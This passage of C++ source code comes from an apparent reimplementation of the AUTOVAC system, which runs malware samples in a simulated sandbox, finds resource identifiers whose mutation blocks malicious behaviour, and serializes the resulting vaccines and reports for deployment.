  vm::StopReason phase1_stop = vm::StopReason::kRunning;

  // Phase-II counters.
  size_t targets_considered = 0;
  size_t filtered_not_exclusive = 0;
  size_t filtered_no_impact = 0;
  size_t filtered_non_deterministic = 0;

  std::vector<Vaccine> vaccines;

  // Retained for corpus-level statistics benches.
  trace::ApiTrace natural_trace;
};

class VaccinePipeline {
 public:
  // `index` may be null, disabling the exclusiveness filter.
  VaccinePipeline(const analysis::ExclusivenessIndex* index,
                  PipelineOptions options = {});

  // Runs Phase-I + Phase-II on one sample.
  [[nodiscard]] SampleReport Analyze(const vm::Program& sample) const;

  // A fresh copy of the analysis machine this pipeline uses as baseline.
  [[nodiscard]] os::HostEnvironment BaselineMachine() const;

  [[nodiscard]] const PipelineOptions& options() const { return options_; }

 private:
  const analysis::ExclusivenessIndex* index_;
  PipelineOptions options_;
};

}  // namespace autovac::vaccine
