// The end-to-end AUTOVAC pipeline (Figure 1): Phase-I candidate selection
// (taint-instrumented profiling run), Phase-II vaccine generation
// (exclusiveness analysis, impact analysis via mutation + trace
// differential, determinism analysis + slice extraction), producing
// deployable Vaccine records for Phase-III.
#pragma once

#include <memory>
#include <string>
#include <vector>

#include "analysis/determinism.h"
#include "analysis/exclusiveness.h"
#include "analysis/impact.h"
#include "os/host_environment.h"
#include "support/status.h"
#include "support/tracing.h"
#include "vaccine/vaccine.h"
#include "vm/program.h"

namespace autovac::vaccine {

struct PipelineOptions {
  // Phase-I profiling budget: "each sample runs for 1 minute" (§VI-B).
  uint64_t phase1_budget = sandbox::kOneMinuteBudget;
  analysis::ImpactOptions impact;
  analysis::DeterminismOptions determinism;
  // Ablation switch: skip the exclusiveness filter.
  bool run_exclusiveness = true;
  // Cap on mutation targets per sample (each costs a full re-run).
  size_t max_targets = 24;
  // Entropy seed for the analysis machine.
  uint64_t machine_seed = 7;
  // Execution-envelope caps applied to every sandbox run the pipeline
  // makes (phase-1 and mutation re-runs); 0 = unlimited.
  sandbox::RunLimits limits;
  // Optional deterministic fault schedule, applied to every sandbox run.
  const sandbox::FaultPlan* fault_plan = nullptr;
  // Retries (with halved cycle budget each time) for a mutation re-run
  // that stops abnormally — a fault or a tripped envelope cap.
  size_t max_impact_retries = 1;

  // Snapshot fast path: capture machine snapshots at resource-API call
  // sites during the phase-1 run and execute mutation re-runs by
  // restoring + resuming instead of replaying the whole prefix. Only
  // engages when the impact budget equals the phase-1 budget (otherwise
  // resumes cannot be proven equivalent); reports are byte-identical
  // either way. `--no-snapshot-replay` flips this off.
  bool snapshot_replay = true;
  // Most snapshots kept per sample (each holds a full memory image);
  // targets past the cap fall back to full re-runs.
  size_t snapshot_cap = 32;
  // Worker threads for the Phase-II mutation fan-out. 1 (the default)
  // runs mutations inline on the calling thread; N > 1 speculatively
  // computes every statically-eligible target's impact on a pool and
  // merges results in target order, so reports stay byte-identical to
  // the sequential path. Speculation may execute (and then discard)
  // attempts the sequential path would have skipped, so wall-clock
  // telemetry — not report contents — can differ across thread counts.
  size_t mutation_threads = 1;
};

// How a sample's analysis ultimately ended, across every isolation layer
// (in-process exception catch, forked worker, deadline watchdog, poison
// list). Anything but kAnalyzed counts as a failed sample in campaign
// aggregates.
enum class SampleDisposition : uint8_t {
  kAnalyzed = 0,       // Analyze returned (its own statuses may be non-OK)
  kIsolatedCrash,      // Analyze threw; caught by the campaign runner
  kWorkerCrashed,      // worker process died (signal / bad exit)
  kDeadlineExceeded,   // worker SIGKILLed by the wall-clock watchdog
  kQuarantined,        // poison-listed after repeatedly killing workers
};

[[nodiscard]] std::string_view SampleDispositionName(
    SampleDisposition disposition);

// Per-sample outcome of Phase-I and Phase-II.
struct SampleReport {
  std::string sample_name;
  std::string sample_digest;
  // Free-form evasion-class tag copied from the sample's `.evasion`
  // directive; empty for ordinary (non-adversarial) corpora.
  std::string evasion_class;
  SampleDisposition disposition = SampleDisposition::kAnalyzed;

  // Phase-I statistics.
  size_t resource_api_occurrences = 0;
  size_t tainted_occurrences = 0;  // occurrences whose taint hit a branch
  bool resource_sensitive = false; // flagged "possibly has a vaccine"
  vm::StopReason phase1_stop = vm::StopReason::kRunning;

  // Error taxonomy: each phase reports its own health. A non-OK status
  // means the phase crashed (was isolated), not that it filtered the
  // sample — the report stays well-formed either way.
  Status phase1_status = Status::Ok();
  Status phase2_status = Status::Ok();

  // Phase-II counters.
  size_t targets_considered = 0;
  size_t filtered_not_exclusive = 0;
  size_t filtered_no_impact = 0;
  size_t filtered_non_deterministic = 0;

  // Resilience counters.
  size_t impact_retries = 0;    // abnormal-stop re-runs (halved budget)
  size_t targets_faulted = 0;   // targets dropped by an isolated crash
  size_t vaccines_demoted = 0;  // determinism crash ⇒ daemon fallback
  size_t faults_injected = 0;   // across every sandbox run of this sample

  std::vector<Vaccine> vaccines;

  // Per-phase analysis cost (the paper's Table IV axis), aggregated from
  // the spans this sample's analysis opened on the global tracer. Empty
  // when tracing is disabled. Ticks are VM instructions — deterministic
  // under fixed seeds; wall_ns is informational only.
  std::vector<PhaseTotal> phase_costs;

  // Retained for corpus-level statistics benches.
  trace::ApiTrace natural_trace;

  // True when both phases ran to completion without an isolated crash.
  [[nodiscard]] bool Clean() const {
    return phase1_status.ok() && phase2_status.ok() && targets_faulted == 0;
  }
};

// Aggregate outcome of analyzing a whole wave of samples.
struct CampaignReport {
  std::vector<SampleReport> reports;
  size_t samples_failed = 0;   // Analyze itself threw (last-resort catch)
  size_t samples_degraded = 0; // report returned, but not Clean()
  size_t total_vaccines = 0;
  size_t total_demoted = 0;
  size_t total_faults_injected = 0;
  // Phase costs summed over every sample (empty when tracing is off).
  std::vector<PhaseTotal> phase_costs;
};

class VaccinePipeline {
 public:
  // `index` may be null, disabling the exclusiveness filter.
  VaccinePipeline(const analysis::ExclusivenessIndex* index,
                  PipelineOptions options = {});

  // Runs Phase-I + Phase-II on one sample.
  [[nodiscard]] SampleReport Analyze(const vm::Program& sample) const;

  // A fresh copy of the analysis machine this pipeline uses as baseline.
  [[nodiscard]] os::HostEnvironment BaselineMachine() const;

  [[nodiscard]] const PipelineOptions& options() const { return options_; }

  // The exclusiveness index this pipeline filters against (may be null).
  // The campaign supervisor uses it to derive retry pipelines with a
  // backed-off cycle budget.
  [[nodiscard]] const analysis::ExclusivenessIndex* exclusiveness_index()
      const {
    return index_;
  }

 private:
  // Phase-II body; exceptions escape to Analyze's isolation layer.
  // `snapshots` non-null enables the mutation fast path (resume targets
  // from their captured call sites instead of full re-runs).
  void AnalyzePhase2(const vm::Program& sample,
                     const sandbox::RunResult& phase1,
                     SampleReport& report,
                     const sandbox::SnapshotRecorder* snapshots) const;

  // The outcome of one target's impact analysis, carried from a (possibly
  // speculative, possibly worker-thread) computation to the deterministic
  // merge point. Report counters are applied only at merge, so a
  // discarded speculative attempt never reaches a report.
  struct ImpactAttempt {
    analysis::ImpactResult impact;
    size_t retries = 0;
    size_t faults_injected = 0;
    bool crashed = false;          // the analysis threw; `impact` is empty
    std::string crash_message;
  };

  // One target's mutation re-run: snapshot resume when possible, full
  // re-run otherwise, retried with a halved cycle budget (always a full
  // re-run — the halved budget invalidates resumes) while the run stops
  // abnormally. Thread-safe: touches no report state, catches every
  // exception into the attempt, and logs nothing.
  [[nodiscard]] ImpactAttempt ComputeImpact(
      const vm::Program& sample, const os::HostEnvironment& baseline,
      const trace::ApiTrace& natural, const analysis::MutationTarget& target,
      const sandbox::SnapshotRecorder* snapshots) const;

  // Determinism analysis + vaccine assembly for one proven-impactful
  // target. Filter outcomes come back as non-OK statuses; exceptions
  // escape to the caller, which demotes instead of dropping.
  [[nodiscard]] Result<Vaccine> BuildVaccine(
      const vm::Program& sample, const sandbox::RunResult& phase1,
      const analysis::MutationTarget& target,
      const analysis::ImpactResult& impact, SampleReport& report) const;

  const analysis::ExclusivenessIndex* index_;
  PipelineOptions options_;
};

// Runs Analyze with last-resort exception isolation: an escaped throw
// becomes a well-formed failed report (disposition kIsolatedCrash)
// instead of aborting the caller. The per-sample unit both the in-process
// campaign runner and the forked campaign workers execute.
[[nodiscard]] SampleReport AnalyzeIsolated(const VaccinePipeline& pipeline,
                                           const vm::Program& sample);

// Deterministically folds per-sample reports into a CampaignReport:
// failure/degradation counts from each report's disposition and statuses,
// phase costs summed from each report's own phase_costs rollup (never
// re-queried from the global tracer, which is empty for reports produced
// in separate worker processes).
[[nodiscard]] CampaignReport BuildCampaignReport(
    std::vector<SampleReport> reports);

// Crash-isolated campaign runner: analyzes every sample, converting even
// an escaped Analyze exception into a well-formed (failed) SampleReport
// so one hostile sample cannot abort the wave.
[[nodiscard]] CampaignReport AnalyzeCampaign(
    const VaccinePipeline& pipeline, const std::vector<vm::Program>& samples);

}  // namespace autovac::vaccine
