#include "vaccine/package.h"

#include "support/strings.h"
#include "trace/serialize.h"

namespace autovac::vaccine {
namespace {

using trace::DecodeField;
using trace::EncodeField;

bool ParseU32(const std::string& token, uint32_t* out) {
  uint64_t value = 0;
  if (!ParseUint64(token, &value) || value > UINT32_MAX) return false;
  *out = static_cast<uint32_t>(value);
  return true;
}

std::string HexBytes(std::string_view bytes) {
  std::string out;
  out.reserve(bytes.size() * 2);
  for (char c : bytes) {
    out += StrFormat("%02x", static_cast<unsigned char>(c));
  }
  return out;
}

Result<std::string> UnhexBytes(std::string_view hex) {
  if (hex.size() % 2 != 0) return Status::InvalidArgument("odd hex length");
  auto digit = [](char c) -> int {
    if (c >= '0' && c <= '9') return c - '0';
    if (c >= 'a' && c <= 'f') return c - 'a' + 10;
    return -1;
  };
  std::string out;
  out.reserve(hex.size() / 2);
  for (size_t i = 0; i < hex.size(); i += 2) {
    const int hi = digit(hex[i]);
    const int lo = digit(hex[i + 1]);
    if (hi < 0 || lo < 0) return Status::InvalidArgument("bad hex");
    out.push_back(static_cast<char>(hi * 16 + lo));
  }
  return out;
}

}  // namespace

std::string SerializePackage(const std::vector<Vaccine>& vaccines) {
  std::string out = StrFormat("VACCINEPKG v1 %zu\n", vaccines.size());
  for (const Vaccine& v : vaccines) {
    out += StrFormat(
        "V %s %s %d %d %d %d %d %d %s %s %.6f %s\n",
        EncodeField(v.malware_name).c_str(),
        EncodeField(v.malware_digest).c_str(),
        static_cast<int>(v.resource_type), static_cast<int>(v.operation),
        v.simulate_presence ? 1 : 0, static_cast<int>(v.identifier_kind),
        static_cast<int>(v.immunization), static_cast<int>(v.delivery),
        EncodeField(v.identifier).c_str(),
        EncodeField(v.pattern.text()).c_str(), v.behavior_decreasing_ratio,
        EncodeField(v.OperationSymbols()).c_str());
    if (v.slice.has_value()) {
      const analysis::VaccineSlice& slice = *v.slice;
      out += StrFormat("SLICE %zu %zu %u %u\n", slice.program.code.size(),
                       slice.program.data.size(), slice.output_addr,
                       slice.output_len);
      for (const vm::Instruction& inst : slice.program.code) {
        out += StrFormat("I %d %d %d %lld\n", static_cast<int>(inst.op),
                         static_cast<int>(inst.r1),
                         static_cast<int>(inst.r2),
                         static_cast<long long>(inst.imm));
      }
      for (const vm::DataBlob& blob : slice.program.data) {
        out += StrFormat("B %u %s\n", blob.address,
                         HexBytes(blob.bytes).c_str());
      }
    }
  }
  return out;
}

Result<std::vector<Vaccine>> ParsePackage(std::string_view text) {
  std::vector<Vaccine> vaccines;
  bool saw_header = false;
  size_t pos = 0;
  size_t pending_code = 0;
  size_t pending_data = 0;

  while (pos <= text.size()) {
    const size_t eol = text.find('\n', pos);
    std::string_view line =
        text.substr(pos, eol == std::string_view::npos
                             ? std::string_view::npos
                             : eol - pos);
    pos = eol == std::string_view::npos ? text.size() + 1 : eol + 1;
    if (line.empty()) continue;
    auto tokens = StrSplit(line, " \t");

    if (!saw_header) {
      if (tokens.size() < 3 || tokens[0] != "VACCINEPKG" ||
          tokens[1] != "v1") {
        return Status::InvalidArgument("bad VACCINEPKG header");
      }
      saw_header = true;
      continue;
    }

    if (tokens[0] == "V") {
      if (tokens.size() != 13) {
        return Status::InvalidArgument("bad V record");
      }
      Vaccine v;
      auto name = DecodeField(tokens[1]);
      auto digest = DecodeField(tokens[2]);
      auto identifier = DecodeField(tokens[9]);
      auto pattern_text = DecodeField(tokens[10]);
      auto opsyms = DecodeField(tokens[12]);
      if (!name.ok() || !digest.ok() || !identifier.ok() ||
          !pattern_text.ok() || !opsyms.ok()) {
        return Status::InvalidArgument("bad V strings");
      }
      uint32_t fields[6];
      for (int i = 0; i < 6; ++i) {
        if (!ParseU32(tokens[3 + i], &fields[i])) {
          return Status::InvalidArgument("bad V numeric field");
        }
      }
      v.malware_name = name.value();
      v.malware_digest = digest.value();
      v.resource_type = static_cast<os::ResourceType>(fields[0]);
      v.operation = static_cast<os::Operation>(fields[1]);
      v.simulate_presence = fields[2] != 0;
      v.identifier_kind = static_cast<analysis::IdentifierClass>(fields[3]);
      v.immunization = static_cast<analysis::ImmunizationType>(fields[4]);
      v.delivery = static_cast<DeliveryMethod>(fields[5]);
      v.identifier = identifier.value();
      AUTOVAC_ASSIGN_OR_RETURN(v.pattern,
                               Pattern::Compile(pattern_text.value()));
      v.behavior_decreasing_ratio = std::atof(tokens[11].c_str());
      for (char c : opsyms.value()) v.observed_operations.insert(c);
      vaccines.push_back(std::move(v));
      pending_code = 0;
      pending_data = 0;
      continue;
    }
    if (vaccines.empty()) {
      return Status::InvalidArgument("record before first vaccine");
    }
    Vaccine& current = vaccines.back();

    if (tokens[0] == "SLICE") {
      if (tokens.size() != 5) return Status::InvalidArgument("bad SLICE");
      uint32_t counts[4];
      for (int i = 0; i < 4; ++i) {
        if (!ParseU32(tokens[1 + i], &counts[i])) {
          return Status::InvalidArgument("bad SLICE field");
        }
      }
      analysis::VaccineSlice slice;
      slice.program.name = current.malware_name + "_slice";
      slice.output_addr = counts[2];
      slice.output_len = counts[3];
      current.slice = std::move(slice);
      pending_code = counts[0];
      pending_data = counts[1];
    } else if (tokens[0] == "I") {
      if (!current.slice.has_value() || pending_code == 0) {
        return Status::InvalidArgument("I record outside slice");
      }
      if (tokens.size() != 5) return Status::InvalidArgument("bad I record");
      uint32_t op = 0;
      int64_t r1 = 0;
      int64_t r2 = 0;
      int64_t imm = 0;
      if (!ParseU32(tokens[1], &op) || !ParseInt64(tokens[2], &r1) ||
          !ParseInt64(tokens[3], &r2) || !ParseInt64(tokens[4], &imm)) {
        return Status::InvalidArgument("bad I fields");
      }
      current.slice->program.code.push_back(
          {static_cast<vm::Op>(op), static_cast<vm::Reg>(r1),
           static_cast<vm::Reg>(r2), imm});
      --pending_code;
    } else if (tokens[0] == "B") {
      if (!current.slice.has_value() || pending_data == 0) {
        return Status::InvalidArgument("B record outside slice");
      }
      if (tokens.size() != 3) return Status::InvalidArgument("bad B record");
      vm::DataBlob blob;
      if (!ParseU32(tokens[1], &blob.address)) {
        return Status::InvalidArgument("bad B address");
      }
      AUTOVAC_ASSIGN_OR_RETURN(blob.bytes, UnhexBytes(tokens[2]));
      current.slice->program.data.push_back(std::move(blob));
      --pending_data;
    } else {
      return Status::InvalidArgument("unknown record: " + std::string(line));
    }
  }
  if (!saw_header) return Status::InvalidArgument("empty package");
  return vaccines;
}

}  // namespace autovac::vaccine
