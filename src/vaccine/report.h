// Human-readable analysis reports: one markdown document per sample,
// summarizing Phase-I profiling, the Phase-II filter funnel, every
// extracted vaccine (with identifier taxonomy, pattern, slice listing)
// and the deployment plan. The analyst-facing artifact next to the
// machine-facing vaccine package.
#pragma once

#include <string>

#include "vaccine/pipeline.h"

namespace autovac::vaccine {

[[nodiscard]] std::string RenderSampleReport(const SampleReport& report);

}  // namespace autovac::vaccine
