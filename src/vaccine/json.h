// JSON (de)serialization for analysis outcomes: Status, Vaccine,
// SampleReport and CampaignReport.
//
// This is the wire format of the durable-campaign layer — the write-ahead
// journal stores one SampleReport per line, and forked campaign workers
// ship their report to the supervisor through it — so the round trip must
// be *exact* for every deterministic field: a report that crossed a
// process boundary or a journal replay must serialize byte-identically to
// the in-memory original. Two deliberate exceptions, both documented in
// src/support/tracing.h: wall-clock span times (informational only) are
// not serialized and parse back as zero, and the natural API trace is
// embedded as its canonical line-format text (trace/serialize.h), whose
// own round trip is exact.
#pragma once

#include <string>
#include <string_view>

#include "support/json.h"
#include "support/status.h"
#include "vaccine/pipeline.h"

namespace autovac::vaccine {

[[nodiscard]] std::string StatusToJson(const Status& status);
// Parses `json` into `*out`; the return value reports parse success
// (Result<Status> would be ambiguous — the payload is itself a Status).
[[nodiscard]] Status StatusFromJson(const JsonValue& json, Status* out);

[[nodiscard]] std::string VaccineToJson(const Vaccine& vaccine);
[[nodiscard]] Result<Vaccine> VaccineFromJson(const JsonValue& json);

// Content address of a vaccine: the digest of its canonical JSON
// serialization. Two vaccines with the same digest are byte-identical on
// the wire, which is what the store, the daemon dedup, and the PULL
// delta protocol all key on.
[[nodiscard]] std::string VaccineDigest(const Vaccine& vaccine);

[[nodiscard]] std::string SampleReportToJson(const SampleReport& report);
[[nodiscard]] Result<SampleReport> SampleReportFromJson(
    const JsonValue& json);
[[nodiscard]] Result<SampleReport> ParseSampleReportJson(
    std::string_view text);

// The campaign export (`autovac campaign --campaign-out`): aggregates
// plus every per-sample report. Deterministic under a fixed seed, whether
// the reports were produced in-process, by forked workers, or replayed
// from a journal — the byte-identity the resume tests assert.
[[nodiscard]] std::string CampaignReportToJson(const CampaignReport& report);

}  // namespace autovac::vaccine
