#include "vaccine/pipeline.h"

#include <algorithm>
#include <future>
#include <map>
#include <memory>
#include <set>

#include "sandbox/sandbox.h"
#include "sandbox/snapshot.h"
#include "support/logging.h"
#include "support/metrics.h"
#include "support/threadpool.h"

namespace autovac::vaccine {
namespace {

// Pipeline-level health counters; phase *costs* come from tracer spans.
struct PipelineMetrics {
  Counter* samples_analyzed;
  Counter* mutation_runs;
  Counter* impact_retries;
  Counter* targets_faulted;
  Counter* vaccines_demoted;
  Counter* vaccines_extracted;
};

PipelineMetrics& GetPipelineMetrics() {
  static PipelineMetrics* metrics = [] {
    auto* m = new PipelineMetrics();
    MetricsRegistry& registry = GlobalMetrics();
    m->samples_analyzed = registry.GetCounter("pipeline.samples_analyzed");
    m->mutation_runs = registry.GetCounter("pipeline.mutation_runs");
    m->impact_retries = registry.GetCounter("pipeline.impact_retries");
    m->targets_faulted = registry.GetCounter("pipeline.targets_faulted");
    m->vaccines_demoted = registry.GetCounter("pipeline.vaccines_demoted");
    m->vaccines_extracted =
        registry.GetCounter("pipeline.vaccines_extracted");
    return m;
  }();
  return *metrics;
}

// Mutation re-runs that could not ride a snapshot (no capture for the
// triple, budget mismatch, differing fault schedule) and paid the full
// prefix replay instead.
Counter* SnapshotFallbackCounter() {
  static Counter* counter =
      GlobalMetrics().GetCounter("snapshot.fallback_full_runs");
  return counter;
}

// Phase-1 runs whose recorder hit its snapshot cap with triples left over.
Counter* SnapshotCapOverflowCounter() {
  static Counter* counter =
      GlobalMetrics().GetCounter("snapshot.cap_overflows");
  return counter;
}

// An abnormal end to a sandbox run: the machine faulted or tripped an
// execution-envelope cap, so the trace may be truncated mid-behaviour.
bool AbnormalStop(vm::StopReason reason) {
  switch (reason) {
    case vm::StopReason::kFault:
    case vm::StopReason::kCallDepthLimit:
    case vm::StopReason::kApiCallLimit:
    case vm::StopReason::kTraceLimit:
      return true;
    default:
      return false;
  }
}

// Degradation ladder: a target whose impact is proven but whose
// determinism analysis crashed still yields a vaccine — demoted to the
// daemon with a literal match on the concrete identifier, no slice.
Vaccine DemotedVaccine(const vm::Program& sample, const SampleReport& report,
                       const analysis::MutationTarget& target,
                       const analysis::ImpactResult& impact) {
  Vaccine vaccine;
  vaccine.malware_name = sample.name;
  vaccine.malware_digest = report.sample_digest;
  vaccine.resource_type = target.resource_type;
  vaccine.operation = target.operation;
  vaccine.identifier = target.identifier;
  vaccine.simulate_presence = target.SimulatesPresence();
  vaccine.identifier_kind = analysis::IdentifierClass::kStatic;
  vaccine.immunization = impact.effect.type;
  vaccine.pattern = Pattern::Literal(target.identifier);
  vaccine.delivery = DeliveryMethod::kDaemon;
  return vaccine;
}

}  // namespace

VaccinePipeline::VaccinePipeline(const analysis::ExclusivenessIndex* index,
                                 PipelineOptions options)
    : index_(index), options_(options) {}

os::HostEnvironment VaccinePipeline::BaselineMachine() const {
  return os::HostEnvironment::StandardMachine(options_.machine_seed);
}

VaccinePipeline::ImpactAttempt VaccinePipeline::ComputeImpact(
    const vm::Program& sample, const os::HostEnvironment& baseline,
    const trace::ApiTrace& natural, const analysis::MutationTarget& target,
    const sandbox::SnapshotRecorder* snapshots) const {
  ImpactAttempt attempt;
  try {
    analysis::ImpactOptions impact_options = options_.impact;
    impact_options.limits = options_.limits;
    impact_options.fault_plan = options_.fault_plan;

    PipelineMetrics& metrics = GetPipelineMetrics();
    metrics.mutation_runs->Increment();

    std::optional<analysis::ImpactResult> resumed;
    if (snapshots != nullptr) {
      const sandbox::MachineSnapshot* snapshot = snapshots->Find(
          target.api_name, target.caller_pc, target.identifier);
      if (snapshot != nullptr) {
        resumed = analysis::TryResumeImpactAnalysis(sample, *snapshot, natural,
                                                    target, impact_options);
      }
      if (!resumed.has_value()) SnapshotFallbackCounter()->Increment();
    }
    analysis::ImpactResult impact =
        resumed.has_value()
            ? std::move(*resumed)
            : analysis::RunImpactAnalysis(sample, baseline, natural, target,
                                          impact_options);
    attempt.faults_injected += impact.faults_injected;

    while (AbnormalStop(impact.stop_reason) &&
           attempt.retries < options_.max_impact_retries) {
      ++attempt.retries;
      metrics.impact_retries->Increment();
      metrics.mutation_runs->Increment();
      // A shorter leash: the retry must finish inside half the budget, so
      // a run that keeps tripping its envelope converges to "no impact"
      // instead of burning the whole campaign's time. The halved budget
      // rules out snapshot resumes, so retries always replay in full.
      impact_options.cycle_budget =
          std::max<uint64_t>(impact_options.cycle_budget / 2, 1);
      impact = analysis::RunImpactAnalysis(sample, baseline, natural, target,
                                           impact_options);
      attempt.faults_injected += impact.faults_injected;
    }
    attempt.impact = std::move(impact);
  } catch (const std::exception& e) {
    // Keep the partial fault tally: runs that completed before the crash
    // already injected their faults, exactly as the sequential path
    // counted them.
    attempt.crashed = true;
    attempt.crash_message = e.what();
  }
  return attempt;
}

Result<Vaccine> VaccinePipeline::BuildVaccine(
    const vm::Program& sample, const sandbox::RunResult& phase1,
    const analysis::MutationTarget& target,
    const analysis::ImpactResult& impact, SampleReport& report) const {
  // Anchor at a call that carries the identifier string in memory
  // (handle-based occurrences defer to the opener).
  uint32_t anchor = target.anchor_sequence;
  if (phase1.api_trace.calls[anchor].identifier_addr == 0) {
    for (const trace::ApiCallRecord& call : phase1.api_trace.calls) {
      if (call.resource_identifier == target.identifier &&
          call.identifier_addr != 0) {
        anchor = call.sequence;
        break;
      }
    }
  }
  AUTOVAC_ASSIGN_OR_RETURN(
      const analysis::DeterminismReport determinism,
      analysis::AnalyzeIdentifier(phase1.instruction_trace, phase1.api_trace,
                                  anchor, options_.determinism));
  if (determinism.cls == analysis::IdentifierClass::kNonDeterministic) {
    // "we delete all the entirely random identifiers" (§IV-C).
    return Status::OutOfRange("entirely random identifier");
  }

  Vaccine vaccine;
  vaccine.malware_name = sample.name;
  vaccine.malware_digest = report.sample_digest;
  vaccine.resource_type = target.resource_type;
  vaccine.operation = target.operation;
  vaccine.identifier = target.identifier;
  vaccine.simulate_presence = target.SimulatesPresence();
  vaccine.identifier_kind = determinism.cls;
  vaccine.immunization = impact.effect.type;
  vaccine.pattern = determinism.pattern;
  vaccine.delivery = determinism.cls == analysis::IdentifierClass::kStatic
                         ? DeliveryMethod::kDirectInjection
                         : DeliveryMethod::kDaemon;
  if (determinism.cls == analysis::IdentifierClass::kAlgorithmDeterministic) {
    auto slice = analysis::ExtractSlice(sample, phase1.instruction_trace,
                                        phase1.api_trace, determinism, anchor);
    if (slice.ok()) vaccine.slice = std::move(slice).value();
  }
  for (const trace::ApiCallRecord& call : phase1.api_trace.calls) {
    if (call.is_resource_api &&
        call.resource_identifier == target.identifier) {
      vaccine.observed_operations.insert(os::OperationSymbol(call.operation));
    }
  }
  return vaccine;
}

void VaccinePipeline::AnalyzePhase2(
    const vm::Program& sample, const sandbox::RunResult& phase1,
    SampleReport& report, const sandbox::SnapshotRecorder* snapshots) const {
  std::vector<analysis::MutationTarget> targets =
      analysis::CollectMutationTargets(phase1.api_trace);
  report.targets_considered = targets.size();

  const os::HostEnvironment baseline = BaselineMachine();

  // The exclusiveness/empty-identifier filter depends only on static
  // state, so the fan-out can evaluate it up front; the dynamic skips
  // (vaccine_keys dedup, the impact-run cap) stay in the merge loop.
  auto statically_eligible = [&](const analysis::MutationTarget& target) {
    if (options_.run_exclusiveness && index_ != nullptr &&
        !index_->IsExclusive(target.identifier)) {
      return false;
    }
    return !target.identifier.empty();
  };

  // Speculative fan-out: with N > 1 worker threads, every statically
  // eligible target's impact analysis starts immediately on the pool.
  // Some speculation is wasted — a target the merge loop later skips
  // (vaccine_keys, cap) computed an attempt nobody reads — but that is
  // what makes the merge deterministic: it consumes results strictly in
  // target order and applies exactly the skips the sequential path
  // applies, so discarded attempts never touch the report.
  //
  // Destruction order matters: the pool is declared last so its
  // destructor joins the workers before attempts/promises go away.
  std::vector<ImpactAttempt> attempts(targets.size());
  std::vector<std::promise<void>> promises(targets.size());
  std::vector<std::future<void>> futures(targets.size());
  std::unique_ptr<ThreadPool> pool;
  if (options_.mutation_threads > 1 && !targets.empty()) {
    pool = std::make_unique<ThreadPool>(options_.mutation_threads);
    for (size_t i = 0; i < targets.size(); ++i) {
      if (!statically_eligible(targets[i])) continue;
      futures[i] = promises[i].get_future();
      ImpactAttempt* slot = &attempts[i];
      std::promise<void>* done = &promises[i];
      const analysis::MutationTarget* target = &targets[i];
      const trace::ApiTrace* natural = &phase1.api_trace;
      const os::HostEnvironment* base = &baseline;
      pool->Submit([this, &sample, base, natural, target, snapshots, slot,
                    done] {
        // ComputeImpact is exception-free by contract, so the promise is
        // always fulfilled and the merge loop can never deadlock.
        *slot = ComputeImpact(sample, *base, *natural, *target, snapshots);
        done->set_value();
      });
    }
  }

  Tracer& tracer = GlobalTracer();
  std::set<std::pair<os::ResourceType, std::string>> vaccine_keys;
  size_t impact_runs = 0;
  for (size_t target_index = 0; target_index < targets.size();
       ++target_index) {
    const analysis::MutationTarget& target = targets[target_index];
    // One vaccine per resource: several call sites touching the same
    // identifier collapse into the first effective mutation.
    if (vaccine_keys.count({target.resource_type, target.identifier}) > 0) {
      continue;
    }
    // Step-I: exclusiveness (cheap — runs before the impact-run cap).
    {
      ScopedSpan span(tracer, "exclusiveness");
      if (!statically_eligible(target)) {
        ++report.filtered_not_exclusive;
        continue;
      }
    }
    // Each surviving target costs a mutated re-run; cap them.
    if (impact_runs >= options_.max_targets) {
      LogInfo("sample %s: impact-run cap (%zu) reached",
              sample.name.c_str(), options_.max_targets);
      break;
    }
    ++impact_runs;

    // Step-II: impact — collect the speculative attempt, or compute it
    // inline on the sequential path. A crash leaves the effect unknown,
    // so the target is dropped — the rest of the sample keeps analyzing.
    ImpactAttempt attempt;
    {
      ScopedSpan span(tracer, "mutation");
      if (futures[target_index].valid()) {
        futures[target_index].wait();
        attempt = std::move(attempts[target_index]);
      } else {
        attempt = ComputeImpact(sample, baseline, phase1.api_trace, target,
                                snapshots);
      }
    }
    report.impact_retries += attempt.retries;
    report.faults_injected += attempt.faults_injected;
    if (attempt.crashed) {
      ++report.targets_faulted;
      GetPipelineMetrics().targets_faulted->Increment();
      LogInfo("sample %s: impact analysis crashed for %s: %s",
              sample.name.c_str(), target.identifier.c_str(),
              attempt.crash_message.c_str());
      continue;
    }
    const analysis::ImpactResult& impact = attempt.impact;
    if (impact.effect.type == analysis::ImmunizationType::kNone) {
      ++report.filtered_no_impact;
      continue;
    }

    // Step-III: determinism + assembly. The target is already proven
    // impactful, so a crash demotes the vaccine instead of dropping it.
    try {
      ScopedSpan span(tracer, "determinism");
      auto vaccine = BuildVaccine(sample, phase1, target, impact, report);
      if (!vaccine.ok()) {
        ++report.filtered_non_deterministic;
        continue;
      }
      report.vaccines.push_back(std::move(vaccine).value());
      GetPipelineMetrics().vaccines_extracted->Increment();
    } catch (const std::exception& e) {
      ++report.targets_faulted;
      ++report.vaccines_demoted;
      GetPipelineMetrics().targets_faulted->Increment();
      GetPipelineMetrics().vaccines_demoted->Increment();
      LogInfo("sample %s: determinism analysis crashed for %s, demoting: %s",
              sample.name.c_str(), target.identifier.c_str(), e.what());
      report.vaccines.push_back(DemotedVaccine(sample, report, target,
                                               impact));
      GetPipelineMetrics().vaccines_extracted->Increment();
    }
    vaccine_keys.insert({target.resource_type, target.identifier});
  }
}

SampleReport VaccinePipeline::Analyze(const vm::Program& sample) const {
  SampleReport report;
  report.sample_name = sample.name;
  report.sample_digest = sample.Digest();
  report.evasion_class = sample.evasion_class;

  GetPipelineMetrics().samples_analyzed->Increment();
  Tracer& tracer = GlobalTracer();
  // Spans opened from here on belong to this sample's phase-cost rollup.
  const size_t first_span = tracer.spans().size();

  // The snapshot fast path is sound only when mutation re-runs use the
  // same cycle budget as the capture (phase-1) run; with differing
  // budgets the recorder stays empty and every re-run replays in full.
  const bool fast_path =
      options_.snapshot_replay &&
      options_.impact.cycle_budget == options_.phase1_budget;
  sandbox::SnapshotRecorder snapshots(options_.snapshot_cap);

  // ---- Phase-I: candidate selection ---------------------------------
  sandbox::RunResult phase1;
  try {
    ScopedSpan span(tracer, "phase1");
    os::HostEnvironment phase1_env = BaselineMachine();
    sandbox::RunOptions phase1_options;
    phase1_options.cycle_budget = options_.phase1_budget;
    phase1_options.enable_taint = true;
    phase1_options.record_instructions = true;  // for determinism analysis
    phase1_options.limits = options_.limits;
    phase1_options.fault_plan = options_.fault_plan;
    phase1 = fast_path
                 ? sandbox::RunProgramWithCapture(sample, phase1_env,
